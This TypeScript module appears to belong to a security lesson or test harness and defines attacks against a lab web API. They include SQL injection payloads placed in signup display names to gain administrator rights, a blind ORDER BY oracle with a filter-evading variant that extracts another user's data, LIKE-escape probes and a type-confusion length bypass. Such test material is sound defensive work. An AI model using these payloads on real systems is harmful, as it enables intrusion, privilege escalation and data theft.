import { randomBytes } from 'node:crypto';
import type { Attack } from '../engine/lesson.js';
import type { Person, Target, TracingClient } from '../engine/target.js';

interface List {
  items?: { id: string; title: string }[];
}

/** Signs up under a display name of the attacker's making, and in. It is stored first, and used later. */
async function signUpAs(target: Target, displayName: string): Promise<TracingClient> {
  const suffix = randomBytes(4).toString('hex');
  const credentials = {
    email: `mallory-${suffix}@example.com`,
    password: `plum orchid ${suffix} mallory`,
  };
  const mallory = target.stranger('mallory');
  await mallory.post('/v1/auth/register', { ...credentials, displayName });
  await target.confirm(credentials);
  const { body } = await mallory.post<{ accessToken?: string }>('/v1/auth/login', credentials);
  target.trace.pop();
  return mallory.withToken(body.accessToken ?? '');
}

/** Looks like a sealed name, so that the column takes it; nobody will open it. */
const NAME = String.raw`\001${'x'.repeat(44)}`;

/** What only an administrator is shown. */
async function signUpAsAdmin(target: Target, displayName: string): Promise<string | null> {
  const ada = await target.person('ada');
  const seesAda = async (who: TracingClient) => {
    const path = `/v1/users?email=${ada.email}`;
    const { body } = await who.get<{ items?: { email: string }[] }>(path);
    return body.items?.some(({ email }) => email === ada.email) ?? false;
  };
  // Where everybody is shown that, nobody needs an injection for it.
  const isShownToAll = await seesAda(ada.client);
  target.trace.pop();
  return !isShownToAll && (await seesAda(await signUpAs(target, displayName)))
    ? 'an administrator’s account, and with it the address of Ada'
    : null;
}

const throughValues: Attack[] = [
  {
    id: 'sql-become-admin',
    title: 'Sign up under a display name that goes on as SQL, and be an administrator',
    needsLab: true,
    run: (target) => signUpAsAdmin(target, `${NAME}',$4,coalesce('admin',$5))--`),
  },
  {
    id: 'sql-second-row',
    title: 'Sign up under a display name that goes on as a second row, without a comment',
    needsLab: true,
    run: (target) => signUpAsAdmin(target, `${NAME}',$4,'admin'),($1,$2,$3,$2||'`),
  },
];

/** ORDER BY answers one question at each request: does the first row come first? */
type Question = (id: string, position: number, above: number) => string;

const letter = (id: string, position: number) =>
  `ascii(substr((SELECT title FROM resources WHERE id='${id}'),${position},1))`;
const asked: Question = (id, position, above) =>
  `(CASE WHEN ${letter(id, position)}>${above} THEN 1 ELSE -1 END)*ascii(resources.title)`;
/** The same without white space and quotes, which comments and dollar quotes replace. */
const compact: Question = (...question) =>
  asked(...question)
    .replaceAll("'", '$$$$')
    .replaceAll(' ', '/**/');

const LETTERS = 6;

async function readThroughOrder(target: Target, question: Question): Promise<string | null> {
  const [ada, eve] = [await target.person('ada'), await target.person('eve')];
  const made = await ada.client.post<{ id: string }>('/v1/resources', {
    title: 'secret plan',
    content: '',
  });
  const { id } = made.body;
  await eve.client.post('/v1/resources', { title: 'a', content: '' });
  await eve.client.post('/v1/resources', { title: 'b', content: '' });
  let text = '';
  while (text.length < LETTERS) {
    const next = await readLetter(eve, (above) => question(id, text.length + 1, above));
    if (next === null) return null;
    text += next;
  }
  return text === 'secret' ? 'the title of Ada’s resource, letter by letter: secret...' : null;
}

/** Halves the alphabet until one letter is left. */
async function readLetter(eve: Person, question: (above: number) => string) {
  let [low, high] = ['a'.charCodeAt(0), 'z'.charCodeAt(0)];
  while (low < high) {
    const middle = Math.floor((low + high) / 2);
    const path = `/v1/resources?sort=${encodeURIComponent(question(middle))}`;
    const { items = [] } = (await eve.client.get<List>(path)).body;
    if (items.length === 0) return null;
    if (items[0]?.title === 'a') low = middle + 1;
    else high = middle;
  }
  return String.fromCharCode(low);
}

const throughNames: Attack[] = [
  {
    id: 'sql-sort-oracle',
    title: 'Read Ada’s resource through the order of your own list',
    run: (target) => readThroughOrder(target, asked),
  },
  {
    id: 'sql-sort-compact',
    title: 'The same, without a space or a quote in the sort field',
    run: (target) => readThroughOrder(target, compact),
  },
];

/** A row that the search finds although its title does not hold the text. */
async function foundWithout(target: Target, title: string, texts: string[]) {
  const eve = await target.person('eve');
  await eve.client.post('/v1/resources', { title, content: '' });
  for (const text of texts) {
    const path = `/v1/resources?title=${encodeURIComponent(text)}`;
    const { items = [] } = (await eve.client.get<List>(path)).body;
    if (items.length > 0) return `a search for ${text} that finds the title ${title}`;
  }
  return null;
}

const throughPatterns: Attack[] = [
  {
    id: 'like-wildcard',
    title: 'Search for "%" and "_" and find what holds neither',
    run: (target) => foundWithout(target, 'plain', ['%', '_', 'p%n']),
  },
  {
    id: 'like-backslash',
    title: 'Search with the escape itself: a backslash before "%", or two of them',
    run: (target) => foundWithout(target, String.raw`a\b`, [String.raw`\%`, String.raw`a\\b`]),
  },
];

const LONG = 5_000;

const throughTypes: Attack[] = [
  {
    id: 'type-object-as-text',
    title: 'Send an object that says of itself how long it is, where a short text belongs',
    run: async (target) => {
      const eve = await target.person('eve');
      const path = `/v1/resources/${(await target.resource(eve)).id}`;
      const label = { length: 5, text: 'x'.repeat(LONG) };
      await eve.client.patch(path, { labels: [label] }, { 'if-match': '"1"' });
      const { body } = await eve.client.get<{ labels: string[] }>(path);
      const stored = body.labels[0]?.length ?? 0;
      return stored > LONG ? 'a label of more than 5,000 characters, where 40 are allowed' : null;
    },
  },
];

export const attacks: Attack[] = [
  ...throughValues,
  ...throughNames,
  ...throughPatterns,
  ...throughTypes,
];
